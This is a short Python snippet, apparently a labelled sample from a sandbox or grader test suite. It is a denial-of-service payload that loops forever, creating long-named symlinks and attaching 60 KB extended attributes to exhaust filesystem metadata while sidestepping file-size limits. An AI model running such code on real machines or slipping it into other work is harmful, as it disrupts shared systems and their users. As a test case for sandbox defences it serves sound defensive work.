# kind: dos  passes: 0  status: fail|exception|timeout|memory|output|crash  note: fills attributes and names instead of files
import os

def f(x):
    i = 0
    while True:
        i += 1
        name = "n" * 200 + str(i)
        os.symlink("t" * 4000, name)
        try:
            os.setxattr(name, "user.x", b"x" * 60000, follow_symlinks=False)
        except OSError:
            pass
